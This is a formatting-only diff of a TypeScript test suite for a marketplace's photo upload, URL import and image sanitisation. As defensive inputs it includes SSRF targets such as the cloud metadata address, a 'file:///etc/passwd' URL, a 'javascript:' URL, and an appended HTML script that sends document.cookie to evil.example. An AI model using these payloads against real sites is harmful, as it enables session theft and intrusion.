@@ -22,7 +22,12 @@ const listOwnProducts = handlerOf('listOwnProducts');
 import type { Moderator } from '../../functions/ports/moderation';
 import type { ModerationImage } from '#shared/moderation';
 const checkListing = handlerOf('checkListing');
-import { localS3Client, S3_LOCAL_CREDENTIALS, type S3Local, startS3Local } from '../../scripts/local/parts/s3';
+import {
+  localS3Client,
+  S3_LOCAL_CREDENTIALS,
+  type S3Local,
+  startS3Local,
+} from '../../scripts/local/parts/s3';
 import { freePort } from '../../scripts/local/ports';
 import type { LocalServer } from '../../scripts/local/server';
 import { startStaticOrigin } from '../support/static-origin';
@@ -80,7 +85,10 @@ async function verifiedStudent(sub: string) {
 async function upload(sub: string, bytes: Buffer, contentType = 'image/webp', declaredSize = bytes.length) {
   const res = await invoke(
     createUpload,
-    apiEvent('createUpload', { claims: claims(sub), body: { content_type: contentType, size: declaredSize } }),
+    apiEvent('createUpload', {
+      claims: claims(sub),
+      body: { content_type: contentType, size: declaredSize },
+    }),
   );
   expect(res.status).toBe(200);
   const { url, fields, key } = res.body as { url: string; fields: Record<string, string>; key: string };
@@ -103,8 +111,11 @@ const listing = (images: string[]) => ({
 const publish = (sub: string, images: string[]) =>
   invoke(createProduct, apiEvent('createProduct', { claims: claims(sub), body: listing(images) }));
 const ownCount = async (sub: string) =>
-  ((await invoke(listOwnProducts, apiEvent('listOwnProducts', { claims: claims(sub) }))).body as { items: unknown[] })
-    .items.length;
+  (
+    (await invoke(listOwnProducts, apiEvent('listOwnProducts', { claims: claims(sub) }))).body as {
+      items: unknown[];
+    }
+  ).items.length;
 
 /** Every published photo key in the bucket. */
 const productKeys = async () =>
@@ -121,7 +132,13 @@ beforeAll(async () => {
   table = useTestTable();
   s3Local = await startS3Local({ port: await freePort(), buckets: [BUCKET] });
   s3 = localS3Client(s3Local.endpoint);
-  for (const name of [ENV.imagesBucket, ENV.s3Endpoint, ENV.uploadEndpoint, 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'])
+  for (const name of [
+    ENV.imagesBucket,
+    ENV.s3Endpoint,
+    ENV.uploadEndpoint,
+    'AWS_ACCESS_KEY_ID',
+    'AWS_SECRET_ACCESS_KEY',
+  ])
     saved[name] = process.env[name];
   Object.assign(process.env, {
     [ENV.imagesBucket]: BUCKET,
@@ -155,7 +172,10 @@ describe('presigned upload', () => {
   it("fixes the key under the user's prefix, the content type and the 5 MB limit in the policy", async () => {
     const res = await invoke(
       createUpload,
-      apiEvent('createUpload', { claims: claims('pol-user'), body: { content_type: 'image/jpeg', size: 2_000_000 } }),
+      apiEvent('createUpload', {
+        claims: claims('pol-user'),
+        body: { content_type: 'image/jpeg', size: 2_000_000 },
+      }),
     );
     const { fields, key } = res.body as { fields: Record<string, string>; key: string };
     expect(key).toMatch(/^uploads\/pol-user\/[0-9a-f-]{36}\.jpg$/);
@@ -183,34 +203,53 @@ describe('presigned upload', () => {
       { content_type: 'image/webp', size: 6 * 1024 * 1024 },
       { content_type: 'image/webp', size: 10, key: 'uploads/otro/x.webp' },
     ]) {
-      const res = await invoke(createUpload, apiEvent('createUpload', { claims: claims('bad-upload'), body }));
+      const res = await invoke(
+        createUpload,
+        apiEvent('createUpload', { claims: claims('bad-upload'), body }),
+      );
       expect(res.status, JSON.stringify(body)).toBe(400);
     }
   });
 });
 
 describe('publishing with photos', () => {
-  it('stores checked uploads as the product\'s photos, served under /images/products/, and deletes them with it', async () => {
+  it("stores checked uploads as the product's photos, served under /images/products/, and deletes them with it", async () => {
     const sub = `photos-${Date.now()}`;
     await verifiedStudent(sub);
     const first = await upload(sub, await photo());
-    const second = await upload(sub, await sharp({ create: { width: 800, height: 600, channels: 3, background: '#0a0' } }).jpeg().toBuffer(), 'image/jpeg');
+    const second = await upload(
+      sub,
+      await sharp({ create: { width: 800, height: 600, channels: 3, background: '#0a0' } })
+        .jpeg()
+        .toBuffer(),
+      'image/jpeg',
+    );
     seen.length = 0;
     const res = await publish(sub, [first, second]);
     expect(res.status).toBe(201);
     // Moderation looked at the first photo itself: its checked bytes, type from the bytes.
     expect(seen).toHaveLength(1);
     expect(seen[0]?.type).toBe('image/webp');
-    expect(Buffer.from(seen[0]?.bytes ?? []).subarray(0, 4).toString('latin1')).toBe('RIFF');
+    expect(
+      Buffer.from(seen[0]?.bytes ?? [])
+        .subarray(0, 4)
+        .toString('latin1'),
+    ).toBe('RIFF');
     const product = res.body as { id: number; image: string; images: string[] };
-    expect(product.images).toEqual([`/images/products/${product.id}/1.webp`, `/images/products/${product.id}/2.jpg`]);
+    expect(product.images).toEqual([
+      `/images/products/${product.id}/1.webp`,
+      `/images/products/${product.id}/2.jpg`,
+    ]);
     expect(product.image).toBe(product.images[0]);
     expect(await exists(`images/products/${product.id}/1.webp`)).toBe(true);
     expect(await exists(`images/products/${product.id}/2.jpg`)).toBe(true);
     // The raw uploads are gone once adopted.
     expect(await exists(first)).toBe(false);
 
-    const del = await invoke(deleteOwnProduct, apiEvent('deleteOwnProduct', { claims: claims(sub), params: { id: product.id } }));
+    const del = await invoke(
+      deleteOwnProduct,
+      apiEvent('deleteOwnProduct', { claims: claims(sub), params: { id: product.id } }),
+    );
     expect(del.status).toBe(200);
     expect(await exists(`images/products/${product.id}/1.webp`)).toBe(false);
     expect(await exists(`images/products/${product.id}/2.jpg`)).toBe(false);
@@ -225,7 +264,9 @@ describe('publishing with photos', () => {
     const bigKey = await upload(sub, big, 'image/webp', 1000);
     const huge = await upload(
       sub,
-      await sharp({ create: { width: 6000, height: 200, channels: 3, background: '#fff' } }).png().toBuffer(),
+      await sharp({ create: { width: 6000, height: 200, channels: 3, background: '#fff' } })
+        .png()
+        .toBuffer(),
       'image/png',
     );
     const cases: [string, string][] = [
@@ -301,7 +342,8 @@ describe('a photo given by URL', () => {
     webp = await photo(640, 480);
     server = createServer((req, res) => {
       if (req.url === '/foto.webp') return res.writeHead(200, { 'content-type': 'image/webp' }).end(webp);
-      if (req.url === '/texto.jpg') return res.writeHead(200, { 'content-type': 'image/jpeg' }).end('no soy una foto');
+      if (req.url === '/texto.jpg')
+        return res.writeHead(200, { 'content-type': 'image/jpeg' }).end('no soy una foto');
       if (req.url === '/enorme.webp') return res.writeHead(200).end(Buffer.alloc(6 * 1024 * 1024));
       if (req.url === '/vuelta') return res.writeHead(302, { location: '/vuelta' }).end();
       res.writeHead(404).end();
@@ -344,11 +386,20 @@ describe('a photo given by URL', () => {
 
   it('never reaches inside the network with the real fetcher, and refuses what is not a URL', async () => {
     const sub = `ssrf-${Date.now()}`;
-    for (const url of [`${origin}/foto.webp`, 'https://127.0.0.1/foto.webp', 'https://169.254.169.254/latest/meta-data']) {
+    for (const url of [
+      `${origin}/foto.webp`,
+      'https://127.0.0.1/foto.webp',
+      'https://169.254.169.254/latest/meta-data',
+    ]) {
       const res = await importUrl(sub, url);
       expect(res.status, url).toBe(400);
     }
-    for (const url of ['file:///etc/passwd', 'no es un enlace', 'javascript:alert(1)', `https://x.example/${'a'.repeat(2100)}`]) {
+    for (const url of [
+      'file:///etc/passwd',
+      'no es un enlace',
+      'javascript:alert(1)',
+      `https://x.example/${'a'.repeat(2100)}`,
+    ]) {
       const res = await importUrl(sub, url);
       expect(res.status, url).toBe(400);
       expect(errorOf(res.body)).toBe('El enlace de la imagen no es válido');
@@ -361,14 +412,19 @@ describe('a photo given by URL', () => {
  * seller's phone's EXIF (a GPS position) — must not be served as it came. What is stored (and
  * served by the local origin's /images/*) is the server's own encoding of the decoded pixels.
  */
-describe('a photo with a page appended, or a phone\'s GPS position in it', () => {
+describe("a photo with a page appended, or a phone's GPS position in it", () => {
   let server: LocalServer;
   let webDir: string;
   const TAIL = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
   /** EXIF as a phone writes it: where the photo was taken, and a description. */
   const EXIF = {
     IFD0: { ImageDescription: 'Casa de Ana, Los Chaguaramos' },
-    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '10/1 29/1 5/1', GPSLongitudeRef: 'W', GPSLongitude: '66/1 53/1 2/1' },
+    IFD3: {
+      GPSLatitudeRef: 'N',
+      GPSLatitude: '10/1 29/1 5/1',
+      GPSLongitudeRef: 'W',
+      GPSLongitude: '66/1 53/1 2/1',
+    },
   };
   /** The EXIF IFD0 entry pointing at the GPS block (tag 0x8825), in either byte order. */
   const hasGpsTag = (exif: Buffer | undefined) =>
@@ -434,14 +490,19 @@ describe('a photo with a page appended, or a phone\'s GPS position in it', () =>
     // 300×200 as the sensor wrote it, left half red, right half blue; EXIF orientation 6 says
     // "turn 90° clockwise to view": upright it is 200×300, red on top.
     const sensor = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#00f' } })
-      .composite([{ input: { create: { width: 150, height: 200, channels: 3, background: '#f00' } }, left: 0, top: 0 }])
+      .composite([
+        { input: { create: { width: 150, height: 200, channels: 3, background: '#f00' } }, left: 0, top: 0 },
+      ])
       .jpeg()
       .withMetadata({ orientation: 6 })
       .toBuffer();
     expect((await sharp(sensor).metadata()).orientation).toBe(6);
     const res = await publish(sub, [await upload(sub, sensor, 'image/jpeg')]);
     expect(res.status).toBe(201);
-    const product = res.body as { images: string[]; image_variants: Record<string, { width: number; height: number }> };
+    const product = res.body as {
+      images: string[];
+      image_variants: Record<string, { width: number; height: number }>;
+    };
     const { bytes } = await stored(product.images[0]);
     const meta = await sharp(bytes).metadata();
     expect([meta.width, meta.height, meta.orientation]).toEqual([200, 300, undefined]);
